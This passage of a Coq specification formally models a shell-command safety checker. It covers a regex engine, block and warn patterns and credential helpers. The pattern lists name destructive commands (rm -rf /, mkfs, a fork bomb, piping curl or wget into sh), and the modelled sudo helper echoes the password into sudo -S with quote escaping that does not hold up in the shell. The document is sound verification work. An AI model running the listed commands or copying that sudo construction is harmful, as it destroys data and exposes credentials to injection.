  if in_range 65 90 (code c) then ascii_of_nat (code c + 32) else c.

(** Canonicalize: with the [i] flag characters are compared in upper case. *)
Definition canon (ic : bool) (c : ascii) : ascii :=
  if ic then upper_ascii c else c.

Definition item_in (it : ClassItem) (c : ascii) : bool :=
  match it with
  | CChar a => Ascii.eqb a c
  | CRange lo hi => in_range (code lo) (code hi) (code c)
  | CDigit neg => xorb neg (is_digit c)
  | CWord neg => xorb neg (is_word c)
  | CSpace neg => xorb neg (is_space c)
  end.

(** Some member of the item canonicalizes to the same character as [c]. *)
Definition item_has (ic : bool) (it : ClassItem) (c : ascii) : bool :=
  item_in it c
  || (ic && (item_in it (upper_ascii c) || item_in it (lower_ascii c))).

(** A continuation receives the character before the current position (if
    any) and the rest of the subject. *)
Definition cont : Type := option ascii -> string -> bool.

Definition dec (mx : option nat) : option nat :=
  match mx with Some n => Some (pred n) | None => None end.

Definition exhausted (mx : option nat) : bool :=
  match mx with Some O => true | _ => false end.

(** Optional iterations of a quantified atom: an iteration that consumes
    nothing is rejected, so the length of the subject bounds their number. *)
Fixpoint rep_opt (mr : cont -> cont) (k : cont) (fuel : nat) (mx : option nat)
  (p : option ascii) (s : string) : bool :=
  k p s
  || match fuel with
     | O => false
     | S fuel' =>
         if exhausted mx then false
         else mr (fun p' s' =>
                    if (String.length s' <? String.length s)%nat
                    then rep_opt mr k fuel' (dec mx) p' s'
                    else false) p s
     end.

(** Mandatory iterations first, then the optional ones. *)
Fixpoint rep_req (mr : cont -> cont) (k : cont) (n : nat) (mx : option nat)
  (p : option ascii) (s : string) : bool :=
  match n with
  | O => rep_opt mr k (String.length s) mx p s
  | S n' => mr (fun p' s' => rep_req mr k n' (dec mx) p' s') p s
  end.

Fixpoint matches (ic : bool) (r : regexp) (k : cont) (p : option ascii) (s : string)
  {struct r} : bool :=
  match r with
  | REmpty => k p s
  | RChar c =>
      match s with
      | String x s' => if Ascii.eqb (canon ic x) (canon ic c) then k (Some x) s' else false
      | EmptyString => false
      end
  | RAny =>
      match s with
      | String x s' => if is_line_terminator x then false else k (Some x) s'
      | EmptyString => false
      end
  | RClass invert items =>
      match s with
      | String x s' =>
          if xorb invert (existsb (fun it => item_has ic it x) items)
          then k (Some x) s' else false
      | EmptyString => false
      end
  | RBol => match p with None => k p s | Some _ => false end
  | REol => match s with EmptyString => k p s | String _ _ => false end
  | RWordB neg =>
      let a := match p with Some c => is_word c | None => false end in
      let b := match s with String c _ => is_word c | EmptyString => false end in
      if xorb neg (xorb a b) then k p s else false
  | RLook neg r' =>
      if xorb neg (matches ic r' (fun _ _ => true) p s) then k p s else false
  | RSeq r1 r2 => matches ic r1 (fun p' s' => matches ic r2 k p' s') p s
  | RAlt r1 r2 => matches ic r1 k p s || matches ic r2 k p s
  | RRep r' mn mx => rep_req (matches ic r') k mn mx p s
  end.

(** [test]: a match may start at any position of the subject. *)
Fixpoint search (ic : bool) (r : regexp) (p : option ascii) (s : string) : bool :=
  matches ic r (fun _ _ => true) p s
  || match s with
     | String c s' => search ic r (Some c) s'
     | EmptyString => false
     end.

(** *** Parsing the source text *)

Definition hex_value (c : ascii) : option nat :=
  let n := code c in
  if in_range 48 57 n then Some (n - 48)
  else if in_range 97 102 n then Some (n - 87)
  else if in_range 65 70 n then Some (n - 55)
  else None.

Fixpoint digits (s : string) (acc : nat) : nat * string :=
  match s with
  | String c rest => if is_digit c then digits rest (10 * acc + (code c - 48)) else (acc, s)
  | EmptyString => (acc, s)
  end.

(** A braced quantifier [{n}], [{n,}] or [{n,m}] at the head of [s]. *)
Definition braced (s : string) : option (nat * option nat * string) :=
  match s with
  | String "{"%char (String d rest as s1) =>
      if is_digit d then
        let (n, s2) := digits s1 0 in
        match s2 with
        | String "}"%char s3 => Some (n, Some n, s3)
        | String ","%char (String "}"%char s3) => Some (n, None, s3)
        | String ","%char (String d' _ as s3) =>
            if is_digit d' then
              let (m, s4) := digits s3 0 in
              match s4 with
              | String "}"%char s5 => Some (n, Some m, s5)
              | _ => None
              end
            else None
        | _ => None
        end
      else None
  | _ => None
  end.

Inductive Quant : Type :=
| NoQuant
| BadQuant                                   (* numbers out of order *)
| Quantified (mn : nat) (mx : option nat).

Definition skip_lazy (s : string) : string :=
  match s with String "?"%char rest => rest | _ => s end.

Definition parse_quant (s : string) : Quant * string :=
  match s with
  | String "*"%char rest => (Quantified 0 None, skip_lazy rest)
  | String "+"%char rest => (Quantified 1 None, skip_lazy rest)
  | String "?"%char rest => (Quantified 0 (Some 1), skip_lazy rest)
  | _ =>
      match braced s with
      | Some (n, None, rest) => (Quantified n None, skip_lazy rest)
      | Some (n, Some m, rest) =>
          if (m <? n)%nat then (BadQuant, rest) else (Quantified n (Some m), skip_lazy rest)
      | None => (NoQuant, s)
      end
  end.

(** What follows a backslash: a set, or one character. *)
Inductive Escape : Type :=
| EscSet (it : ClassItem)
| EscChar (c : ascii).

Definition parse_escape (in_class : bool) (s : string) : option (Escape * string) :=
  match s with
  | EmptyString => None                       (* \ at end of pattern *)
  | String c rest =>
      if Ascii.eqb c "d" then Some (EscSet (CDigit false), rest)
      else if Ascii.eqb c "D" then Some (EscSet (CDigit true), rest)
      else if Ascii.eqb c "w" then Some (EscSet (CWord false), rest)
      else if Ascii.eqb c "W" then Some (EscSet (CWord true), rest)
      else if Ascii.eqb c "s" then Some (EscSet (CSpace false), rest)
      else if Ascii.eqb c "S" then Some (EscSet (CSpace true), rest)
      else if Ascii.eqb c "t" then Some (EscChar (ascii_of_nat 9), rest)
      else if Ascii.eqb c "n" then Some (EscChar (ascii_of_nat 10), rest)
      else if Ascii.eqb c "v" then Some (EscChar (ascii_of_nat 11), rest)
      else if Ascii.eqb c "f" then Some (EscChar (ascii_of_nat 12), rest)
      else if Ascii.eqb c "r" then Some (EscChar (ascii_of_nat 13), rest)
      else if Ascii.eqb c "b" then
        if in_class then Some (EscChar (ascii_of_nat 8), rest) else None
      else if Ascii.eqb c "0" then
        match rest with
        | String d _ => if is_digit d then None else Some (EscChar (ascii_of_nat 0), rest)
        | EmptyString => Some (EscChar (ascii_of_nat 0), rest)
        end
      else if is_digit c then None              (* back-reference or octal *)
      else if Ascii.eqb c "x" then
        match rest with
        | String h1 (String h2 rest') =>
            match hex_value h1, hex_value h2 with
            | Some a, Some b => Some (EscChar (ascii_of_nat (16 * a + b)), rest')
            | _, _ => Some (EscChar c, rest)
            end
        | _ => Some (EscChar c, rest)
        end
      else if Ascii.eqb c "u" then
        match rest with
        | String h1 (String h2 (String h3 (String h4 rest'))) =>
            match hex_value h1, hex_value h2, hex_value h3, hex_value h4 with
            | Some 0, Some 0, Some a, Some b =>
                Some (EscChar (ascii_of_nat (16 * a + b)), rest')
            | Some _, Some _, Some _, Some _ => None    (* beyond one byte *)
            | _, _, _, _ => Some (EscChar c, rest)
            end
        | _ => Some (EscChar c, rest)
        end
      else if Ascii.eqb c "c" then None
      else if Ascii.eqb c "k" then None
      else Some (EscChar c, rest)               (* identity escape *)
  end.

(** One class atom: a character or a set. *)
Definition parse_class_atom (s : string) : option (Escape * string) :=
  match s with
  | EmptyString => None
  | String "\"%char rest => parse_escape true rest
  | String c rest => Some (EscChar c, rest)
  end.

Definition atom_item (e : Escape) : ClassItem :=
  match e with EscSet it => it | EscChar c => CChar c end.

(** The items of a class up to its closing bracket. *)
Fixpoint parse_class (fuel : nat) (s : string) (acc : list ClassItem)
  : option (list ClassItem * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | EmptyString => None                     (* unterminated class *)
      | String "]"%char rest => Some (acc, rest)
      | _ =>
          match parse_class_atom s with
          | None => None
          | Some (a, s1) =>
              match s1 with
              | String "-"%char (String c2 _ as s2) =>
                  if Ascii.eqb c2 "]" then parse_class fuel' s1 (acc ++ [atom_item a])
                  else
                    match parse_class_atom s2 with
                    | None => None
                    | Some (b, s3) =>
                        match a, b with
                        | EscChar lo, EscChar hi =>
                            if (code hi <? code lo)%nat then None   (* out of order *)
                            else parse_class fuel' s3 (acc ++ [CRange lo hi])
                        | _, _ =>
                            parse_class fuel' s3
                              (acc ++ [atom_item a; CChar "-"; atom_item b])
                        end
                    end
              | _ => parse_class fuel' s1 (acc ++ [atom_item a])
              end
          end
      end
  end.

Definition join (r : regexp) (o : option regexp) : regexp :=
  match o with Some r' => RAlt r r' | None => r end.

(** An atom with its quantifier, or an assertion.  [disj] parses a
    disjunction up to a closing parenthesis or the end. *)
Definition quantified (r : regexp) (s : string) : option (regexp * string) :=
  match parse_quant s with
  | (NoQuant, s') => Some (r, s')
  | (BadQuant, _) => None
  | (Quantified mn mx, s') => Some (RRep r mn mx, s')
  end.

Definition parse_group (disj : string -> option (regexp * string))
  (wrap : regexp -> regexp) (s : string) : option (regexp * string) :=
  match disj s with
  | Some (r, String ")"%char rest) => quantified (wrap r) rest
  | _ => None                                    (* unterminated group *)
  end.

Definition parse_term (disj : string -> option (regexp * string)) (s : string)
  : option (regexp * string) :=
  match s with
  | EmptyString => None
  | String c rest =>
      if Ascii.eqb c "^" then Some (RBol, rest)
      else if Ascii.eqb c "$" then Some (REol, rest)
      else if Ascii.eqb c "(" then
        match rest with
        | String "?"%char (String "="%char inner) => parse_group disj (RLook false) inner
        | String "?"%char (String "!"%char inner) => parse_group disj (RLook true) inner
        | String "?"%char (String ":"%char inner) => parse_group disj (fun r => r) inner
        | String "?"%char _ => None
        | _ => parse_group disj (fun r => r) rest
        end
      else if Ascii.eqb c "*" || Ascii.eqb c "+" || Ascii.eqb c "?" then None
      else if Ascii.eqb c "{" then
        match braced s with
        | Some _ => None                          (* nothing to repeat *)
        | None => quantified (RChar c) rest
        end
      else if Ascii.eqb c "." then quantified RAny rest
      else if Ascii.eqb c "[" then
        let (invert, body) :=
          match rest with
          | String "^"%char body => (true, body)
          | _ => (false, rest)
          end in
        match parse_class (S (String.length body)) body [] with
        | Some (items, rest') => quantified (RClass invert items) rest'
        | None => None
        end
      else if Ascii.eqb c "\" then
        match rest with
        | String "b"%char rest' => Some (RWordB false, rest')
        | String "B"%char rest' => Some (RWordB true, rest')
        | _ =>
            match parse_escape false rest with
            | Some (EscSet it, rest') => quantified (RClass false [it]) rest'
            | Some (EscChar a, rest') => quantified (RChar a) rest'
            | None => None
            end
        end
      else quantified (RChar c) rest
  end.

(** A disjunction: the current alternative, the alternatives after it, and
    what is left of the source (empty, or starting at a closing
    parenthesis).  Every recursive call is made on a shorter text, and
    [compile] starts with one unit of fuel more than the source is long. *)
Fixpoint parse (fuel : nat) (s : string) : option (regexp * option regexp * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | EmptyString => Some (REmpty, None, s)
      | String c rest =>
          if Ascii.eqb c ")" then Some (REmpty, None, s)
          else if Ascii.eqb c "|" then
            match parse fuel' rest with
            | Some (r, o, s') => Some (REmpty, Some (join r o), s')
            | None => None
            end
          else
            match
              parse_term
                (fun inner =>
                   match parse fuel' inner with
                   | Some (r, o, s') => Some (join r o, s')
                   | None => None
                   end) s
            with
            | Some (t, s1) =>
                match parse fuel' s1 with
                | Some (r, o, s') => Some (RSeq t r, o, s')
                | None => None
                end
            | None => None
            end
      end
  end.

Definition compile (src : string) : option regexp :=
  match parse (S (String.length src)) src with
  | Some (r, o, EmptyString) => Some (join r o)
  | _ => None                                      (* unmatched ')' or error *)
  end.

Definition valid (src : string) : bool :=
  match compile src with Some _ => true | None => false end.

Definition exec (src : string) (ic : bool) (subject : string) : bool :=
  match compile src with
  | Some r => search ic r None subject
  | None => false
  end.

End JsRegExp.

Definition reference_engine : RegExpEngine :=
  {| regexp_valid := JsRegExp.valid; regexp_exec := JsRegExp.exec |}.

(* ------------------------------------------------------------------ *)
(** ** Vocabulary of the statements *)

(** The patterns of a collection that match a command, in registration
    order. *)
Definition matching `{RegExpEngine} (command : string) (ps : list CompiledPattern)
  : list CompiledPattern :=
  filter (fun p => test (regex p) command) ps.

(** The warning line [line] reports the pattern [p]. *)
Definition warns_about (line : string) (p : CompiledPattern) : Prop :=
  exists sev, severity p = Some sev
              /\ line = ("[" ++ toUpperCase sev ++ "] " ++ description p)%string.

(** The audit entry [m] records the pattern [p]. *)
Definition records (m : MatchedPattern) (p : CompiledPattern) : Prop :=
  mp_name m = name p /\ mp_description m = description p
  /\ severity p = Some (mp_severity m).

Definition has_severity (p : CompiledPattern) : Prop := severity p <> None.

(** The three category names accepted by [addPattern]. *)
Definition categories : list string := ["dangerous"; "suspicious"; "whitelisted"].

(** The collection of the registry that a category name designates. *)
Definition collection (type : string) (L : CommandPatternLoader) : list CompiledPattern :=
  if String.eqb type "dangerous" then dangerousPatterns L
  else if String.eqb type "suspicious" then suspiciousPatterns L
  else if String.eqb type "whitelisted" then whitelistedPatterns L
  else [].

(** How many times the promise of closure [cid] has been resolved. *)
Definition completions (cid : nat) (w : World) : nat :=
  length (filter (fun r => Nat.eqb (fst r) cid) (resolved w)).

Definition is_idle_of (cid : nat) (t : Timer) : bool :=
  match callback t with IdleCb c => Nat.eqb c cid | MaxCb _ => false end.

Definition is_max_of (cid : nat) (t : Timer) : bool :=
  match callback t with MaxCb c => Nat.eqb c cid | IdleCb _ => false end.

(** An idle timer, respectively the ceiling timer, of [cid] is pending. *)
Definition pending_idle (cid : nat) (w : World) : bool :=
  existsb (is_idle_of cid) (timers w).

Definition pending_max (cid : nat) (w : World) : bool :=
  existsb (is_max_of cid) (timers w).

(** The [outputHandler] of [cid] is attached to the ['output'] event. *)
Definition attached (cid : nat) (w : World) : bool :=
  existsb (Nat.eqb cid) (output_listeners w).

Definition is_executed (e : Event) : bool :=
  match e with EvExecuted _ => true | _ => false end.

(** In a regular-expression literal the delimiter is written [\/]; the
    expression it denotes has [/] there. *)
Fixpoint unescape_slash (s : string) : string :=
  match s with
  | String "\"%char (String "/"%char rest) => String "/"%char (unescape_slash rest)
  | String "\"%char (String c rest) => String "\"%char (String c (unescape_slash rest))
  | String c rest => String c (unescape_slash rest)
  | EmptyString => EmptyString
  end.

Definition expression (p : CompiledPattern) : string :=
  unescape_slash (source (regex p)).

(** The built-in defaults as the specification lists them (section 6):
    the expressions of the seven dangerous and the four suspicious
    patterns. *)
Definition documented_dangerous : list string :=
  [ "^rm\s+-rf\s+/$";
    "^dd\s+if=.*of=/dev/sd";
    "^mkfs";
    "^:\(\)\{\s*:\|:&\s*\};:";
    "^chmod\s+-R\s+777\s+/";
    "^curl.*\|\s*sh";
    "^wget.*\|\s*sh" ].

Definition documented_suspicious : list string :=
  [ "sudo\s+rm";
    "chmod\s+777";
    ">\s*/dev/null\s+2>&1";
    "base64.*decode" ].

(** [getStatus().blockedCommands]:
    [commandHistory.filter(h => h.analysis?.dangerous && !h.executed).length] *)
Definition blockedCommands (s : Session) : nat :=
  length (filter (fun h => dangerous (rec_analysis h) && negb (executed h))
                 (commandHistory s)).

(** *** Concrete registries and sessions

    The inputs at which the code is evaluated below, run on the reference
    engine. *)

(** The registry after [load] found no configuration file. *)
Definition default_registry : CommandPatternLoader :=
  load (engine := reference_engine) FileMissing new_loader.

(** A whitelist entry for deletions below /tmp. *)
Definition safe_tmp_directory : PatternConfig :=
  mkPatternConfig "safe_tmp_directory" "rm\s+-rf\s+/tmp/" "Delete within /tmp"
                  None true None.

Definition whitelisting_registry : CommandPatternLoader :=
  fst (addPattern (engine := reference_engine) "whitelisted" safe_tmp_directory
                  default_registry).

(** A configuration document with one dangerous pattern that asks for
    case-sensitive matching. *)
Definition case_sensitive_doc : ConfigDoc :=
  mkConfigDoc
    (Some [mkPatternConfig "format_filesystem" "^mkfs" "Format filesystem commands"
                           (Some "critical") true None])
    (Some []) (Some []) None
    (Some (mkSettings (Some true) (Some true) (Some true) (Some true) (Some true))).

(** A session on the default registry whose [connect] has succeeded. *)
Definition connected_world : World := on_ready (new_world default_registry).

(** One command whose single chunk of output is followed by 500 ms of
    silence: the idle timer (handle 1) runs. *)
Definition idle_completion_trace : list Action :=
  [Ready; Execute "ls -la" no_options; StdoutData "total 0"; Elapse 500; TimerFires 1].

(** An entry whose expression does not compile (unterminated group). *)
Definition unbalanced : PatternConfig :=
  mkPatternConfig "unbalanced" "rm (-rf" "Unterminated group" (Some "high") true None.

(** The session after three commands were submitted in a row. *)
Definition three_commands_session : Session :=
  session (run (engine := reference_engine)
             [Ready; Execute "whoami" no_options; Execute "pwd" no_options;
              Execute "ls -la" no_options]
             (new_world default_registry)).

(** *** Consistency of the completion state

    What holds of every closure in every reachable state: its promise has
    been resolved exactly when its [commandCompleted] flag is set; once the
    flag is set its [outputHandler] is detached and none of its idle timers
    is pending; and a pending idle timer of the closure is the one whose
    handle [idleTimer] holds. *)
Definition closure_ok (w : World) (cid : nat) (c : Closure) : Prop :=
  completions cid w = (if commandCompleted c then 1 else 0)
  /\ (commandCompleted c = true ->
      ~ In cid (output_listeners w)
      /\ forall t, In t (timers w) -> is_idle_of cid t = false)
  /\ (forall t, In t (timers w) -> is_idle_of cid t = true ->
      idleTimer c = Some (timer_id t)).

Definition consistent (w : World) : Prop :=
  (forall cid c, nth_error (closures w) cid = Some c -> closure_ok w cid c)
  /\ (forall cid, length (closures w) <= cid ->
      completions cid w = 0
      /\ ~ In cid (output_listeners w)
      /\ forall t, In t (timers w) -> is_idle_of cid t = false)
  /\ NoDup (output_listeners w)
  /\ length (filter is_executed (emitted w)) = length (resolved w).

(** The closure a timer callback belongs to. *)
Definition callback_closure (cb : Callback) : nat :=
  match cb with IdleCb cid => cid | MaxCb cid => cid end.

(** Every pending timer belongs to a closure that exists. *)
Definition timers_allocated (w : World) : Prop :=
  forall t, In t (timers w) -> callback_closure (callback t) < length (closures w).

(** An event other than a chunk of output. *)
Definition quiet (a : Action) : bool :=
  match a with StdoutData _ => false | _ => true end.

(** The closure [cid], started at [t0], has received no output so far: it
    has no idle timer, its ceiling timer is due at [deadline], and if it
    has completed, it did so no earlier than [deadline]. *)
Definition awaiting_ceiling (cid : nat) (t0 deadline : Z) (w : World) : Prop :=
  (exists c, nth_error (closures w) cid = Some c /\ startTime c = t0)
  /\ (forall t, In t (timers w) -> is_idle_of cid t = false)
  /\ (forall t, In t (timers w) -> is_max_of cid t = true -> due t = deadline)
  /\ (forall r, In (cid, r) (resolved w) -> (deadline - t0 <= duration r)%Z).

(* ------------------------------------------------------------------ *)
(** ** Further operations of the two classes and of their callers *)

(** [isDangerousCommand] and [isSuspiciousCommand] of the session. *)
Definition isDangerousCommand `{RegExpEngine} (L : CommandPatternLoader)
  (command : string) : bool :=
  dr_dangerous (isDangerous L command).

Definition isSuspiciousCommand `{RegExpEngine} (L : CommandPatternLoader)
  (command : string) : bool :=
  sr_suspicious (isSuspicious L command).

(** scripts/patterns/manage-patterns.ts, [testCommand(command, options)]:
    what it prints last.  With [options.json] it prints the three query
    results as one JSON object and returns; otherwise it prints them as
    text and ends with the line decided by the chain
    [if (whitelisted) ... else if (dangerous.dangerous) ... else if
    (suspicious.suspicious) ... else ...]. *)
Record CliOptions : Type := mkCliOptions {
  json : option bool                (* values.json of parseArgs *)
}.

Inductive CliVerdict : Type :=
| CliWhitelisted        (* Command is WHITELISTED (will not be blocked) *)
| CliBlocked            (* Command will be BLOCKED *)
| CliWarning            (* Command will show WARNING *)
| CliSafe.              (* Command is SAFE *)

Inductive CliReport : Type :=
| CliJson (dangerous : DangerousResult) (suspicious : SuspiciousResult)
          (whitelisted : bool)      (* JSON.stringify({ dangerous, suspicious, whitelisted }) *)
| CliLine (verdict : CliVerdict).

Definition testCommand `{RegExpEngine} (L : CommandPatternLoader)
  (command : string) (options : CliOptions) : CliReport :=
  let dangerous := isDangerous L command in
  let suspicious := isSuspicious L command in
  let whitelisted := isWhitelisted L command in
  if truthy (json options) then CliJson dangerous suspicious whitelisted
  else
    CliLine
      (if whitelisted then CliWhitelisted
       else if dr_dangerous dangerous then CliBlocked
       else if sr_suspicious suspicious then CliWarning
       else CliSafe).

(** [getStatus()]: the two other counters derived from the history. *)
Definition commandCount (s : Session) : nat := length (commandHistory s).

Definition suspiciousCommands (s : Session) : nat :=
  length (filter (fun h => suspicious (rec_analysis h)) (commandHistory s)).

(** An entry of a configuration document that reaches the compiled
    collection: enabled, with an expression that compiles. *)
Definition usable `{RegExpEngine} (entry : PatternConfig) : bool :=
  cfg_enabled entry && regexp_valid (cfg_pattern entry).

(** The compiled form of an entry of a configuration document. *)
Definition compiled_entry (fl : string) (entry : PatternConfig) : CompiledPattern :=
  mkCompiledPattern (cfg_name entry) (mkRegExp (cfg_pattern entry) fl)
    (cfg_description entry) (cfg_severity entry) (or_nil (cfg_examples entry)).

(** The compiled form of the argument of [addPattern]. *)
Definition added_pattern (L : CommandPatternLoader) (cfg : PatternConfig)
  : CompiledPattern :=
  mkCompiledPattern (cfg_name cfg)
    (mkRegExp (cfg_pattern cfg) (if truthy (case_sensitive (settings L)) then "" else "i"))
    (cfg_description cfg) (Some (or_default (cfg_severity cfg) "medium"))
    (or_nil (cfg_examples cfg)).

Definition is_warning (e : Event) : bool :=
  match e with EvWarning _ _ => true | _ => false end.

Definition is_blocked (e : Event) : bool :=
  match e with EvBlocked _ _ => true | _ => false end.

(** The chunks that the child process delivers in a run of events, with
    the stream they arrive on. *)
Fixpoint chunks_of (trace : list Action) : list (StreamType * string) :=
  match trace with
  | [] => []
  | StdoutData data :: rest => (stdout, data) :: chunks_of rest
  | StderrData data :: rest => (stderr, data) :: chunks_of rest
  | _ :: rest => chunks_of rest
  end.

Definition chunk_key (c : OutputChunk) : StreamType * string :=
  (chunk_type c, chunk_data c).

(** A ceiling timer: its callback is the one of the second [setTimeout] of
    [executeCommand]. *)
Definition is_ceiling (t : Timer) : bool :=
  match callback t with MaxCb _ => true | IdleCb _ => false end.

(** Timer handles are never reused: the handles of the pending timers are
    distinct and below the next handle, and the handle that a closure keeps
    in [idleTimer] is below the next handle and is not the handle of a
    pending ceiling timer. *)
Definition handles_ok (w : World) : Prop :=
  (forall t, In t (timers w) -> timer_id t < next_timer w)
  /\ NoDup (map timer_id (timers w))
  /\ (forall cid c id,
        nth_error (closures w) cid = Some c -> idleTimer c = Some id ->
        id < next_timer w
        /\ forall t, In t (timers w) -> timer_id t = id -> is_ceiling t = false).

(** Every closure stems from a record of the history with the same
    command, verdict and time, and every resolved result is the result of a
    completed closure: its command, verdict and accumulated output, with a
    duration that is not negative. *)
Definition results_faithful (w : World) : Prop :=
  (forall cid c, nth_error (closures w) cid = Some c ->
     In (mkCommandRecord (cl_command c) (startTime c) (cl_analysis c) true)
        (commandHistory (session w))
     /\ (startTime c <= now w)%Z)
  /\ (forall cid r, In (cid, r) (resolved w) ->
        exists c, nth_error (closures w) cid = Some c
                  /\ commandCompleted c = true
                  /\ r = mkResult (cl_command c) (output c) (duration r) (cl_analysis c)
                  /\ (0 <= duration r)%Z).

(** Chunks of stdout with their arrival times: the clock is let reach the
    arrival time of each chunk, then the chunk is delivered. *)
Definition feed (chunks : list (Z * string)) (w : World) : World :=
  fold_left (fun w' ch => on_stdout (snd ch) (advance (fst ch) w')) chunks w.

(** Each chunk arrives less than 500 ms after the one before it (the first
    of them after [prev]) and before [deadline]. *)
Fixpoint steady (deadline prev : Z) (chunks : list (Z * string)) : Prop :=
  match chunks with
  | [] => True
  | ch :: rest =>
      (prev <= fst ch < prev + 500)%Z /\ (fst ch < deadline)%Z
      /\ steady deadline (fst ch) rest
  end.

(** The arrival time of the last chunk, and the chunks put together. *)
Definition last_arrival (first : Z) (rest : list (Z * string)) : Z :=
  fold_left (fun _ ch => fst ch) rest first.

Definition all_data (sofar : string) (chunks : list (Z * string)) : string :=
  fold_left (fun acc ch => (acc ++ snd ch)%string) chunks sofar.

(** The last closure of [w] is a command in flight that received its last
    chunk at time [last], the present time: it has accumulated [out], its
    ceiling timer is due at [deadline] and its idle timer 500 ms from now,
    and it is the only command attached. *)
Definition accumulating (base : list Closure) (res : list (nat * Result))
  (cmd : string) (opts : Options) (a : Analysis) (t0 deadline last : Z)
  (out : string) (w : World) : Prop :=
  exists idm id,
    closures w = base ++ [mkClosure cmd opts a out t0 false (Some id)]
    /\ timers w = [mkTimer idm deadline (MaxCb (length base));
                   mkTimer id (last + 500) (IdleCb (length base))]
    /\ idm <> id /\ idm < next_timer w
    /\ output_listeners w = [length base]
    /\ resolved w = res
    /\ now w = last.

(* ------------------------------------------------------------------ *)
(** ** Credential helpers: the static methods of [SecureCredentials] *)

(** Truthiness of an optional string ([undefined] and [''] are falsy). *)
Definition truthy_string (x : option string) : bool :=
  match x with
  | None => false
  | Some EmptyString => false
  | Some _ => true
  end.

(** ['*'.repeat(n)] *)
Fixpoint repeat_star (n : nat) : string :=
  match n with
  | O => EmptyString
  | S n' => String "*" (repeat_star n')
  end.

(** [s[i]] as an operand of [+]: the character at index [i], and the text
    [undefined] when the index is out of range. *)
Definition char_at (s : string) (i : nat) : string :=
  match String.get i s with
  | Some c => String c EmptyString
  | None => "undefined"
  end.

(** [maskPassword(password)] *)
Definition maskPassword (password : option string) : string :=
  match password with
  | None => "none"
  | Some EmptyString => "none"
  | Some p =>
      if (String.length p <=? 4)%nat then "****"
      else (char_at p 0 ++ repeat_star (String.length p - 2)
            ++ char_at p (String.length p - 1))%string
  end.

(** A server configuration: the two properties [sanitizeForLog] looks at,
    and the others, which the spread [{ ...config }] copies. *)
Record ServerConfig (Other : Type) : Type := mkServerConfig {
  password : option string;
  sudo_password : option string;
  other_properties : Other
}.

(** [sanitizeForLog(config)] *)
Definition sanitizeForLog {Other : Type} (config : ServerConfig Other)
  : ServerConfig Other :=
  let safe := config in
  let safe :=
    if truthy_string (password safe)
    then mkServerConfig (Some (maskPassword (password safe))) (sudo_password safe)
                        (other_properties safe)
    else safe in
  let safe :=
    if truthy_string (sudo_password safe)
    then mkServerConfig (password safe) (Some (maskPassword (sudo_password safe)))
                        (other_properties safe)
    else safe in
  safe.

(** [command.replace(/'/g, ...)]: every single quote is replaced.  The
    replacement is written as a string literal with four characters between
    its delimiters: quote, backslash, quote, quote.  In a string literal a
    backslash followed by a quote denotes the quote, so the replacement
    text is three single quotes and holds no backslash; it holds no dollar
    sign either, so it is inserted as it is. *)
Fixpoint escape_quotes (command : string) : string :=
  match command with
  | EmptyString => EmptyString
  | String c rest =>
      (if Ascii.eqb c "'" then "'''" else String c EmptyString)
        ++ escape_quotes rest
  end.

(** The double-quote character (code unit 34). *)
Definition double_quote : string := String (ascii_of_nat 34) EmptyString.

(** [buildSudoCommand(command, sudoPassword)].  In the template literal the
    escapes [\[] and [\]] denote the brackets themselves. *)
Definition buildSudoCommand (command : string) (sudoPassword : option string)
  : string :=
  if truthy_string sudoPassword then
    let escapedCommand := escape_quotes command in
    "echo " ++ double_quote ++ or_default sudoPassword "" ++ double_quote
      ++ " | sudo -S sh -c '" ++ escapedCommand
      ++ "' 2>&1 | grep -v '[sudo] password'"
  else
    let escapedCommand := escape_quotes command in
    "sudo sh -c '" ++ escapedCommand ++ "'".

(** [s.startsWith(p)] and [s.includes(p)] *)
Definition startsWith (s p : string) : bool := String.prefix p s.

Fixpoint includes (s p : string) : bool :=
  String.prefix p s
  || match s with
     | EmptyString => false
     | String _ rest => includes rest p
     end.

(** [requiresSudo(remotePath)] *)
Definition sudoPaths : list string :=
  ["/etc/"; "/var/"; "/usr/"; "/opt/"; "/srv/"; "/root/"].

Definition requiresSudo (remotePath : string) : bool :=
  existsb (fun p => startsWith remotePath p) sudoPaths.

(** [getSuggestedOwnership(remotePath)] *)
Record Ownership : Type := mkOwnership {
  owner : option string;           (* null is [None] *)
  permissions : string
}.

Definition getSuggestedOwnership (remotePath : string) : Ownership :=
  if startsWith remotePath "/etc/" then mkOwnership (Some "root:root") "644"
  else if startsWith remotePath "/var/www/"
  then mkOwnership (Some "www-data:www-data") "644"
  else if includes remotePath "/nginx/" || includes remotePath "/apache/"
  then mkOwnership (Some "root:root") "644"
  else mkOwnership None "644".

(** The number of occurrences of a character in a string. *)
Fixpoint occurrences (c : ascii) (s : string) : nat :=
  match s with
  | EmptyString => 0
  | String c' rest => (if Ascii.eqb c' c then 1 else 0) + occurrences c rest
  end.

(** *** Further concrete inputs *)

(** A configuration document whose only suspicious entry carries no
    severity. *)
Definition unrated_doc : ConfigDoc :=
  mkConfigDoc (Some [])
    (Some [mkPatternConfig "package_install" "apt\s+install" "Installing packages"
                           None true None])
    (Some []) None None.

Definition unrated_world : World :=
  on_ready (new_world (load (engine := reference_engine) (FileParsed unrated_doc)
                            new_loader)).

(** A configuration document without the suspicious category. *)
Definition incomplete_doc : ConfigDoc :=
  mkConfigDoc
    (Some [mkPatternConfig "format_filesystem" "^mkfs" "Format filesystem commands"
                           (Some "critical") true None])
    None (Some []) None None.

(** A configuration document with the override enabled, a whitelist entry
    for the package manager and a suspicious entry without severity. *)
Definition unrated_whitelist_doc : ConfigDoc :=
  mkConfigDoc (Some [])
    (Some [mkPatternConfig "package_install" "apt\s+install" "Installing packages"
                           None true None])
    (Some [mkPatternConfig "package_manager" "^apt\s" "Package manager"
                           None true None])
    None (Some default_settings).

(** A new dangerous pattern for [addPattern]. *)
Definition power_off : PatternConfig :=
  mkPatternConfig "power_off" "^shutdown" "Power off the host" (Some "critical")
                  true None.

(** Two commands submitted without waiting for the first to complete. *)
Definition two_commands_trace : list Action :=
  [Ready; Execute "whoami" no_options; Execute "pwd" no_options].

(** The verdicts of the default registry on three commands. *)
Definition verdict_ls : Analysis :=
  mkAnalysis "ls -la" true false false false [] None [] [].

Definition verdict_rm_rf_root : Analysis :=
  mkAnalysis "rm -rf /" false true false false
    ["[CRITICAL] Delete root filesystem"]
    (Some "Potentially destructive command detected")
    [mkMatchedPattern "delete_root_filesystem" "Delete root filesystem" "critical"]
    [].

Definition verdict_sudo_rm : Analysis :=
